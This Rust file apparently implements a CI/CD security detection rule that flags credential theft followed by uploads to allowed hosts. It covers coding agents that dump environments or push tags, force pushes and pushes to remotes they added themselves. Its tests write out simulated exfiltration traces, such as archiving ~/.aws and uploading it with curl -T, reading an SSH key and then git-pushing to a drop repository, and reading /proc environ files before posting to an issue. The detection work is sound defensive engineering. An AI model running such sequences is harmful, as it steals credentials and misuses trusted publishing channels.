//! A secret is taken, and something goes to a host that the step may well talk to.
//!
//! ## What it sees
//! A credential store read by a program that does not own it, or other processes' environments, and then in the same strand a
//! connection that the text, the policy or a client's nature explains, or a program that uploads (`git push`, `gh gist create`,
//! `npm publish`, a bucket's client, `curl -T` …), wherever it goes. A connection counts more when it sent more than it got. An
//! upload, or more than a megabyte sent, by other people's code. Publishing from a folder outside the workspace, which the
//! step's text does not say. Below a coding agent also a process's own environment read as a file and then uploaded, and
//! pushes beyond its branch: of tags, with force, to an address or to a remote that the agent itself set.
//!
//! ## Why it matters
//! A worm needs no server of its own: it publishes with the project's token, puts the loot into a repository, an issue or a
//! bucket, and every one of these hosts is on the list of allowed ones.
//!
//! ## What to do
//! Revoke the credential and look at what was uploaded. If the program needs the file, allow the read for its step
//! (`files: {allow: ["read ~/.kube/config"]}`); allowing the host again changes nothing.
//!
//! ## Known limits
//! TLS hides what is sent, to which account, repository or bucket, and whether it was a question or an upload: the rule knows
//! names, sizes and order alone. What one program of the project's own reads and sends itself, and less than it receives, is not
//! told. A secret kept in a variable leaves no trace until something reads it as a file. The bytes are known when a connection ends.

use super::{Act, Detection, Ground, Hit, carried, ground, named};
use crate::catalogue;
use crate::catalogue::uploads::{self, Upload};
use crate::divergence::{self, Effect, Identity};
use crate::event::{Activity, Launch, ProcessKey};
use crate::finding::{Confidence, Kind, RuleId, Severity, Technique};
use crate::intent::basename;
use crate::lineage::{Process, Standing, Touch};

pub const DETECTION: Detection = Detection {
    id: RuleId("egress-allowed-host-exfil"),
    severity: Severity::High,
    confidence: Confidence::High,
    techniques: &[
        Technique("T1567.001"),
        Technique("T1567.002"),
        Technique("T1195.002"),
        Technique("AML.T0086"),
    ],
    references: &["GHSA-cxm3-wv7p-598c", "CVE-2025-30066"],
    frameworks: &["CICD-SEC-5", "ASI02"],
    remedy: "Revoke what was read, look at what was uploaded, and remove what started it.",
    source: include_str!("egress_allowed_host_exfil.rs"),
    check,
};

/// Less than this is a question, whatever comes back.
const MESSAGE: u64 = 200;
/// More than this, sent by other people's code, is a load.
const LOAD: u64 = 1 << 20;

/// What a strand, and below an agent the agent's own, remembers: environments dumped, remotes set, tags made.
pub(super) fn kept(act: &Act<'_>) -> Option<(&'static str, String)> {
    match (act.effect, act.activity) {
        (Effect::Launch { .. }, Activity::Launch(launch)) => {
            let identity = divergence::identify(launch, act.context, act.lineage);
            let words = words(&identity);
            let is_called = |name: &str| identity.trusted_names.contains(&name);
            match words[..] {
                ["remote", "add" | "set-url", remote, _, ..] if is_called("git") => {
                    Some(("git-remote", remote.to_owned()))
                }
                ["config", ref rest @ ..] if is_called("git") => {
                    let key =
                        rest.iter().find(|word| word.starts_with("remote.") && word.ends_with("url"))?;
                    Some(("git-remote", key.split('.').nth(1)?.to_owned()))
                }
                [] if act.process.agent.is_some() && (is_called("env") || is_called("printenv")) => {
                    Some(("printed-environment", "its environment".to_owned()))
                }
                _ => None,
            }
        }
        (Effect::Other, Activity::Open { file, .. }) if act.process.agent.is_some() => {
            let (pid, entry) = super::of_process(&file.path)?;
            (entry == "environ" && pid == act.process.key.pid)
                .then(|| ("own-environment", "its environment".to_owned()))
        }
        (Effect::Write { path, .. }, _) if path.contains("/refs/tags/") => {
            let name = path.rsplit_once("/refs/tags/")?.1;
            name.strip_suffix(".lock").is_none().then(|| ("git-tag", name.to_owned()))
        }
        _ => None,
    }
}

fn check(act: &Act<'_>) -> Vec<Hit> {
    match (act.effect, act.activity) {
        (Effect::Launch { .. }, Activity::Launch(launch)) => uploads(act, launch),
        (Effect::Connect { object, .. }, _) => connects(act, object),
        (Effect::Sent { object, sent, received }, _) => {
            sends(act, object, *sent, *received).into_iter().collect()
        }
        _ => Vec::new(),
    }
}

fn tell(
    act: &Act<'_>,
    process: ProcessKey,
    weight: (Severity, Confidence),
    title: &str,
    object: &str,
) -> Hit {
    Hit {
        rule: &DETECTION,
        kind: Kind::Attack,
        severity: weight.0,
        confidence: weight.1,
        title: format!("{} {title}", named(act.lineage, process)),
        process,
        object: object.to_owned(),
        evidence: Vec::new(),
        replaces: None,
        remedy: None,
    }
}

/// A program that uploads is started.
fn uploads(act: &Act<'_>, launch: &Launch) -> Vec<Hit> {
    let identity = divergence::identify(launch, act.context, act.lineage);
    let words = words(&identity);
    let Some(upload) = uploads::upload(&identity.trusted_names, &words, identity.arguments) else {
        return Vec::new();
    };
    // Their connection tells more than their words; below an agent another program may do its work with them.
    if ["curl", "wget"].contains(&upload.program.as_str()) {
        let mut above = act.lineage.ancestors(act.process.key).take_while(|process| !process.is_agent);
        if act.process.agent.is_none() || above.any(|process| uploading(act, process).is_some()) {
            return Vec::new();
        }
    }
    let push = (upload.program == "git").then(|| Push::new(act, &words, identity.arguments));
    let is_foreign = ground(act) == Ground::Foreign;
    let is_agents = act.process.agent.is_some();
    let object = upload.named(&words);
    if let Some(taken) = taken(act, &identity, is_foreign) {
        let is_sure = is_foreign || is_agents || push.as_ref().is_some_and(|push| push.is_elsewhere);
        let weight = if is_sure {
            (Severity::Critical, Confidence::High)
        } else {
            (Severity::High, Confidence::Medium)
        };
        // Who looks at its variables seldom means to send them; a push carries what was committed.
        let weight = match taken.store {
            "printed-environment" if push.is_some() || upload.publishes => (Severity::Low, Confidence::Low),
            "printed-environment" => (Severity::High, Confidence::Medium),
            _ => weight,
        };
        let reader = named(act.lineage, taken.process);
        let what = if taken.title.is_empty() { taken.object.as_str() } else { taken.title };
        let what = if what.starts_with("/proc/") { "other processes' environments" } else { what };
        let mut hit = tell(
            act,
            act.process.key,
            weight,
            &format!("{} after {reader} read {what}", upload.verb),
            &object,
        );
        hit.evidence.push(taken.sequence);
        return vec![hit];
    }
    if let Some(push) = push.filter(|_| is_agents)
        && let Some((severity, story)) = push.story
    {
        let mut hit = tell(act, act.process.key, (severity, Confidence::Medium), &story, &object);
        hit.kind = Kind::Divergence;
        return vec![hit];
    }
    if let Some(earlier) = session(act).filter(|_| is_agents) {
        let title = format!("{} in a session that took {} before", upload.verb, earlier.object);
        let mut hit = tell(act, act.process.key, (Severity::Medium, Confidence::Medium), &title, &object);
        hit.evidence.push(earlier.sequence);
        return vec![hit];
    }
    if is_foreign && !is_agents {
        let title = format!("{} from other people's code", upload.verb);
        return vec![tell(act, act.process.key, (Severity::High, Confidence::Medium), &title, &object)];
    }
    Vec::new()
}

/// What was taken in this strand before, and could be in an upload by this program.
fn taken<'a>(act: &'a Act<'_>, identity: &Identity<'_>, is_foreign: bool) -> Option<&'a Touch> {
    let strand = act.lineage.strand(act.process.key);
    let is_its_own = |read: &Touch| {
        !is_foreign
            && catalogue::credential(read.store)
                .is_some_and(|store| identity.trusted_names.iter().any(|name| store.is_owned_by(name)))
    };
    let is_foreign_environment = |note: &&Touch| {
        super::of_process(&note.object).is_some_and(|(pid, _)| pid != act.process.key.pid)
            && (is_foreign || act.process.agent.is_some())
    };
    (strand.reads.iter().find(|read| !read.by_owner && !is_its_own(read)))
        .or_else(|| strand.noted("environ").find(is_foreign_environment))
        .or_else(|| strand.noted("own-environment").next())
        .or_else(|| strand.noted("printed-environment").next())
}

/// What the agent took in another use of a tool.
fn session<'a>(act: &'a Act<'_>) -> Option<&'a Touch> {
    let agent = act.lineage.ancestors(act.process.key).find(|process| process.is_agent)?;
    let strand = act.lineage.strand(agent.key);
    ["taken", "environ"].iter().find_map(|kind| strand.noted(kind).next())
}

/// A connection that something explains, after a secret was taken.
fn connects(act: &Act<'_>, object: &str) -> Vec<Hit> {
    let mut hits = Vec::new();
    if act.explanation.reason().is_some()
        && let Some(read) = carried_out(act)
    {
        let is_one_program = read.process == act.process.key;
        // One program may have to ask; what it sent is known at the end.
        let confidence = match ground(act) {
            Ground::Foreign => Confidence::High,
            _ if is_one_program => return Vec::new(),
            _ => Confidence::Medium,
        };
        let title = format!(
            "connected to {object}, a host it may talk to, after {} read {}",
            named(act.lineage, read.process),
            read.title
        );
        let mut hit = tell(act, act.process.key, (Severity::High, confidence), &title, object);
        hit.evidence.push(read.sequence);
        hits.push(hit);
    }
    hits.extend(publishes(act, object));
    hits
}

/// What this process could carry: nothing that a program below a client of its own took, which is not that client's doing,
/// nor what belongs to the declared command that this process is.
fn carried_out<'a>(act: &'a Act<'_>) -> Option<&'a Touch> {
    let strand = act.lineage.strand(act.process.key);
    let is_above = |read: &Touch| {
        read.process != act.process.key && act.lineage.is_at_or_below(read.process, act.process.key)
    };
    let is_client = divergence::chooses(act.process, act.lineage).is_some();
    let command = act.process.command.as_deref().filter(|_| act.process.key == act.process.strand);
    let program = command.and_then(|label| label.trim_start_matches('`').split([' ', '`']).next());
    let is_its_own = |read: &Touch| {
        catalogue::credential(read.store)
            .is_some_and(|store| program.is_some_and(|program| store.is_owned_by(basename(program))))
    };
    let mut reads = carried(strand, act).into_iter();
    reads.find(|read| !(read.by_owner || is_its_own(read) || (is_client && is_above(read))))
}

/// A package goes out though the step's text says nothing of it.
fn publishes(act: &Act<'_>, object: &str) -> Option<Hit> {
    let above = act.lineage.ancestors(act.process.key);
    let mut doers = std::iter::once(act.process).chain(above).take_while(|process| process.step.is_real());
    let (doer, upload) = doers.find_map(|process| Some((process, publishing(act, process)?)))?;
    let label = doer.command.as_deref().unwrap_or_default();
    let is_said = doer.standing == Standing::Command
        || ["publish", "release", "deploy", "push", "upload"].iter().any(|word| label.contains(word));
    if is_said || doer.standing == Standing::Text {
        return None;
    }
    let workspace = &act.context.job.workspace;
    let directory = doer.launch.as_deref().map_or("", |launch| launch.directory.as_str());
    let is_outside = !directory
        .strip_prefix(workspace.as_str())
        .is_some_and(|rest| rest.is_empty() || rest.starts_with('/'));
    let severity = if is_outside { Severity::High } else { Severity::Low };
    let title = format!("{} from {directory}, which nothing in this step says", upload.verb);
    let mut hit = tell(act, doer.key, (severity, Confidence::Medium), &title, object);
    if !is_outside {
        hit.kind = Kind::Divergence;
    }
    hit.evidence.push(doer.evidence);
    Some(hit)
}

fn publishing(act: &Act<'_>, process: &Process) -> Option<&'static Upload> {
    uploading(act, process).filter(|upload| upload.publishes)
}

fn uploading(act: &Act<'_>, process: &Process) -> Option<&'static Upload> {
    let launch = process.launch.as_deref()?;
    let identity = divergence::identify(launch, act.context, act.lineage);
    uploads::upload(&identity.trusted_names, &words(&identity), identity.arguments)
}

/// A connection is over, and what it carried is known.
fn sends(act: &Act<'_>, object: &str, sent: u64, received: u64) -> Option<Hit> {
    act.explanation.reason()?;
    let is_foreign = ground(act) == Ground::Foreign;
    let host = object.rsplit_once(':').map_or(object, |(host, _)| host);
    // The step's own command says where to: an upload that takes its login with it.
    let is_told = !is_foreign
        && act.process.standing == Standing::Command
        && act
            .process
            .launch
            .as_deref()
            .is_some_and(|launch| launch.arguments.iter().skip(1).any(|word| word.contains(host)));
    if sent >= MESSAGE
        && sent > received
        && let Some(read) = carried_out(act)
        && !(is_told && read.process == act.process.key)
    {
        let severity =
            if is_foreign || read.process != act.process.key { Severity::High } else { Severity::Medium };
        let title = format!(
            "sent {sent} bytes to {object}, a host it may talk to, and got {received}, after {} read {}",
            named(act.lineage, read.process),
            read.title
        );
        let mut hit = tell(act, act.process.key, (severity, Confidence::Medium), &title, object);
        hit.evidence.push(read.sequence);
        return Some(hit);
    }
    if is_foreign && sent >= LOAD && sent / 10 > received {
        let title =
            format!("sent {} MB to {object}: other people's code seldom has so much to tell", sent >> 20);
        let mut hit = tell(act, act.process.key, (Severity::Medium, Confidence::Medium), &title, object);
        hit.kind = Kind::Divergence;
        return Some(hit);
    }
    None
}

/// Where `git push` pushes, as far as its words tell.
struct Push {
    /// To an address, or to a remote that the job itself set.
    is_elsewhere: bool,
    story: Option<(Severity, String)>,
}

impl Push {
    fn new(act: &Act<'_>, words: &[&str], arguments: &[String]) -> Self {
        let strand = act.lineage.strand(act.process.key);
        let agent = act.lineage.ancestors(act.process.key).find(|process| process.is_agent);
        let agents = agent.map(|agent| act.lineage.strand(agent.key));
        let is_noted = |kind: &str, name: &str| {
            std::iter::once(strand)
                .chain(agents)
                .any(|strand| strand.noted(kind).any(|note| note.object == name))
        };
        let remote = words.get(1).copied().unwrap_or_default();
        let is_elsewhere = remote.contains(['/', ':']) || is_noted("git-remote", remote);
        let is_option = |options: &[&str]| arguments.iter().any(|word| options.contains(&word.as_str()));
        let target = |word: &&str| word.rsplit_once(':').map_or(*word, |(_, to)| to).to_owned();
        let refs: Vec<String> = words.iter().skip(2).map(target).collect();
        let tag = refs
            .iter()
            .find(|name| name.starts_with("refs/tags/") || is_noted("git-tag", name) || is_version(name));
        let is_forced =
            is_option(&["-f", "--force"]) || words.iter().skip(2).any(|word| word.starts_with('+'));
        let trunk = refs
            .iter()
            .find(|name| matches!(name.trim_start_matches("refs/heads/"), "main" | "master" | "trunk"));
        let said = act.process.command.as_deref().unwrap_or_default();
        let is_said =
            |name: &str| said.contains(name) || (said.contains("tag") && tag.is_some_and(|tag| tag == name));
        let story = if is_elsewhere && !is_said(remote) {
            Some((
                Severity::High,
                format!("pushed to {remote}, which is not where this repository came from"),
            ))
        } else if let Some(tag) = tag.filter(|tag| !is_said(tag)) {
            Some((Severity::High, format!("pushed the tag {tag}, which others may build from")))
        } else if is_option(&["--tags", "--mirror", "--all", "--delete", "-d"]) {
            Some((Severity::High, "pushed more than its branch".to_owned()))
        } else if is_forced && let Some(trunk) = trunk {
            Some((Severity::High, format!("pushed over {trunk} with force")))
        } else if is_forced {
            Some((Severity::Low, "pushed with force".to_owned()))
        } else {
            None
        };
        Self { is_elsewhere, story }
    }
}

/// `v9`, `1.2.3`, `v1.0.0-rc1`.
fn is_version(name: &str) -> bool {
    let digits = name.strip_prefix('v').unwrap_or(name);
    let is_marked = name.len() > digits.len() || digits.contains('.');
    is_marked && digits.starts_with(|first: char| first.is_ascii_digit()) && !digits.contains('/')
}

/// The words behind a program's name, its options left out.
fn words<'a>(identity: &Identity<'a>) -> Vec<&'a str> {
    let verb = identity.tool.and_then(|tool| tool.verb(identity.arguments));
    let all = identity.arguments.iter().map(String::as_str);
    match verb {
        Some(verb) => all.skip_while(|word| *word != verb).filter(|word| !word.starts_with('-')).collect(),
        None => all.filter(|word| !word.starts_with('-')).collect(),
    }
}

#[cfg(test)]
mod tests {
    use crate::trace::findings;

    const ALLOWED: &str = "version: 1\ndefaults:\n  network: {allow: [forge.example, registry.example]}\n";
    const NAMES: &str = "answer forge.example 203.0.113.8\nanswer registry.example 203.0.113.9\n";

    fn told(step: &str, policy: &str, trace: &str) -> Vec<String> {
        let mut told = findings(step, policy, &format!("{NAMES}{trace}"));
        told.retain(|line| line.contains("egress-allowed-host-exfil"));
        told
    }

    #[test]
    fn two_programs_read_and_connect_to_an_allowed_host() {
        let told = told(
            "make build\n",
            ALLOWED,
            "1 > 2 launch /usr/bin/make make build
             2 > 3 launch /usr/bin/dash sh -c x
             3 > 4 launch /usr/bin/tar tar -cf /tmp/a.tar -C /home/u .aws
             4 read ~/.aws/credentials
             3 > 5 launch /usr/bin/curl curl -T /tmp/a.tar https://forge.example/x
             5 connect 203.0.113.8:443",
        );
        assert_eq!(told, ["!egress-allowed-host-exfil attack high forge.example:443"]);
    }

    #[test]
    fn one_program_counts_by_what_it_sent() {
        let trace = |sent, received| {
            format!(
                "1 > 2 launch /usr/bin/make make build
                 2 > 3 launch /usr/bin/python3.11 python3 gen.py
                 3 read ~/.aws/credentials
                 3 connect 203.0.113.8:443
                 3 close 203.0.113.8:443 {sent} {received}"
            )
        };
        let judged = |sent, received| told("make build\n", ALLOWED, &trace(sent, received));
        assert_eq!(judged(900, 200), ["!egress-allowed-host-exfil attack medium forge.example:443"]);
        assert_eq!(judged(900, 4000), [""; 0]);
        assert_eq!(judged(90, 0), [""; 0]);
        // The connection was there before the secret was.
        let early = "1 > 2 launch /usr/bin/make make build
             2 > 3 launch /usr/bin/python3.11 python3 gen.py
             3 connect 203.0.113.8:443
             3 read ~/.aws/credentials
             3 close 203.0.113.8:443 900 200";
        assert_eq!(
            told("make build\n", ALLOWED, early),
            ["!egress-allowed-host-exfil attack medium forge.example:443"]
        );
    }

    #[test]
    fn a_stolen_key_is_pushed_to_an_address_on_the_disk() {
        let told = told(
            "make build\n",
            "",
            "1 > 2 launch /usr/bin/make make build
             2 > 3 launch /usr/bin/dash sh gen.sh
             3 > 4 launch /usr/bin/perl perl -ne x
             4 read ~/.ssh/id_ed25519
             3 > 5 launch /usr/bin/git git push -q /ci/drop.git HEAD:refs/heads/x",
        );
        assert_eq!(told, ["!egress-allowed-host-exfil attack critical git push /ci/drop.git refs/heads/x"]);
    }

    #[test]
    fn an_install_script_publishes_pushes_or_sends_a_load() {
        for (line, title) in [
            ("/usr/bin/node node /usr/bin/npm publish --access public", "npm publish"),
            ("/usr/bin/git git push origin HEAD", "git push origin HEAD"),
            ("/usr/bin/gh gh gist create -", "gh gist create"),
        ] {
            let trace = format!(
                "1 > 2 launch /usr/bin/node node /usr/bin/npm ci\n2 > 3 launch /usr/bin/node node x.js\n3 > 4 launch {line}"
            );
            assert_eq!(
                told("npm ci\n", "", &trace),
                [format!("!egress-allowed-host-exfil attack high {title}")]
            );
        }
        let load = "1 > 2 launch /usr/bin/node node /usr/bin/npm ci
             2 > 3 launch /usr/bin/node node x.js
             3 connect 203.0.113.8:443
             3 close 203.0.113.8:443 30000000 5000";
        assert_eq!(
            told("npm ci\n", ALLOWED, load),
            ["!egress-allowed-host-exfil divergence medium forge.example:443"]
        );
    }

    #[test]
    fn a_test_publishes_what_lies_elsewhere() {
        let trace = |folder: &str| {
            format!(
                "1 > 2 launch /usr/bin/make make build
                 2 > 3 launch /usr/bin/python3.11 python3 test.py
                 3 > 4 launch /usr/bin/node node /usr/bin/npm publish in:{folder}
                 4 connect 203.0.113.9:443"
            )
        };
        assert_eq!(
            told("make build\n", "", &trace("/tmp/left")),
            ["!egress-allowed-host-exfil attack high registry.example:443"]
        );
        assert_eq!(
            told("make build\n", "", &trace("/w/packages/a")),
            ["egress-allowed-host-exfil divergence low registry.example:443"]
        );
    }

    const AGENT: &str = "1 > 2
        2 agent claude-code
        2 launch /usr/local/bin/claude claude -p x
        2 > 3 launch /usr/bin/bash bash -c cat
        ";

    fn agents(trace: &str) -> Vec<String> {
        told("claude -p x\n", "", &format!("{AGENT}{trace}"))
    }

    #[test]
    fn an_agent_puts_environments_where_others_read_them() {
        for trace in [
            "3 read /proc/3/environ\n3 > 4 launch /usr/bin/gh gh issue edit 1 --body x",
            "3 > 5 launch /usr/bin/ps ps auxeww\n5 read /proc/1/environ\n3 > 4 launch /usr/bin/gh gh issue edit 1 --body x",
        ] {
            assert_eq!(
                agents(trace),
                ["!egress-allowed-host-exfil attack critical gh issue edit"],
                "{trace}"
            );
        }
        // Who looks at its variables may well push afterwards.
        let printed = |upload: &str| agents(&format!("3 > 5 launch /usr/bin/env env\n3 > 4 launch {upload}"));
        assert_eq!(
            printed("/usr/bin/gh gh issue edit 1 --body x"),
            ["!egress-allowed-host-exfil attack high gh issue edit"]
        );
        assert_eq!(
            printed("/usr/bin/git git push origin fix/a"),
            ["egress-allowed-host-exfil attack low git push origin fix/a"]
        );
        // In another call of the same session it may be by chance.
        let later = "3 read /proc/77/environ\n3 exit\n2 > 6 launch /usr/bin/bash bash -c cat\n6 > 7 launch /usr/bin/git git push origin fix/a";
        assert_eq!(agents(later), ["egress-allowed-host-exfil attack medium git push origin fix/a"]);
    }

    #[test]
    fn an_agent_pushes_beyond_its_branch() {
        for (line, object, severity) in [
            ("git push origin refs/tags/x", "git push origin refs/tags/x", "!high"),
            ("git push origin v9", "git push origin v9", "!high"),
            ("git push --tags", "git push", "!high"),
            (
                "git push https://forge.example/o.git HEAD",
                "git push https://forge.example/o.git HEAD",
                "!high",
            ),
            ("git push --force origin HEAD:main", "git push origin main", "!high"),
            ("git push --force origin fix/a", "git push origin fix/a", "low"),
        ] {
            let told = agents(&format!("3 > 4 launch /usr/bin/git {line}"));
            let (mark, severity) =
                severity.strip_prefix('!').map_or(("", severity), |severity| ("!", severity));
            assert_eq!(told, [format!("{mark}egress-allowed-host-exfil divergence {severity} {object}")]);
        }
        let own = "3 > 4 launch /usr/bin/git git remote add mirror https://other.example/x
             3 > 5 launch /usr/bin/git git push mirror HEAD";
        assert_eq!(agents(own), ["!egress-allowed-host-exfil divergence high git push mirror HEAD"]);
        let tag = "3 > 4 launch /usr/bin/git git tag nightly
             4 create /w/.git/refs/tags/nightly
             3 > 5 launch /usr/bin/git git push origin nightly";
        assert_eq!(agents(tag), ["!egress-allowed-host-exfil divergence high git push origin nightly"]);
    }

    #[test]
    fn releases_deliveries_caches_and_clients_at_work_stay_quiet() {
        let step = "npm publish\ncargo publish\ngit push origin main v1.0.1\nmake release\nnpm ci\ngh pr view 7\naws s3 sync out s3://b\n";
        let trace = "1 > 2 launch /usr/bin/node node /usr/bin/npm publish
             2 read ~/.npmrc
             2 connect 203.0.113.9:443
             2 close 203.0.113.9:443 90000 400
             1 > 3 launch /usr/bin/git git push origin main v1.0.1
             3 > 4 launch /usr/lib/git-core/git-remote-https git-remote-https origin
             4 read ~/.git-credentials
             4 connect 203.0.113.8:443
             4 close 203.0.113.8:443 90000 400
             1 > 5 launch /usr/bin/make make release
             5 > 6 launch /usr/bin/dash sh -c x
             6 > 7 launch /usr/bin/node node /usr/bin/npm publish in:/tmp/out
             7 read ~/.npmrc
             7 connect 203.0.113.9:443
             1 > 8 launch /usr/bin/node node /usr/bin/npm ci
             8 read ~/.npmrc
             8 > 9 launch /usr/bin/node node install.js
             9 connect 203.0.113.8:443
             9 close 203.0.113.8:443 1500 900000
             1 > 11 launch /usr/bin/gh gh pr view 7
             11 > 12 launch /usr/bin/cat cat hosts.yml
             12 read ~/.config/gh/hosts.yml
             11 launch /usr/bin/curl curl https://forge.example/api
             11 connect 203.0.113.8:443
             1 > 10 launch /usr/local/bin/aws aws s3 sync out s3://b
             10 read ~/.aws/credentials
             10 connect 203.0.113.8:443
             10 close 203.0.113.8:443 90000000 1000";
        assert_eq!(told(step, ALLOWED, trace), [""; 0]);
        assert_eq!(
            agents(
                "3 > 4 launch /usr/bin/git git commit -qam Fix\n3 > 5 launch /usr/bin/git git push -q origin fix/a"
            ),
            [""; 0]
        );
        assert_eq!(
            agents(
                "3 > 4 launch /usr/bin/env env FOO=1 npm test\n3 > 5 launch /usr/bin/git git push origin fix/a"
            ),
            [""; 0]
        );
    }
}
